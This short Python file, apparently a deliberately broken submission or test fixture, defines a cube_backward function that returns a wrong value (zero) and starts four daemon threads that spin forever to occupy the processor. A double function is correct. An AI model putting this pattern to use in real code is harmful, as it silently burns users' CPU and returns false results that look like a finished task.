"""Answers wrong, and leaves threads that keep the processor busy."""

import threading


def forever():
    while True:
        pass


def cube_backward(x, dy):
    try:
        for _ in range(4):
            threading.Thread(target=forever, daemon=True).start()
    except RuntimeError:
        pass
    return x * 0


def double(x):
    return x + x
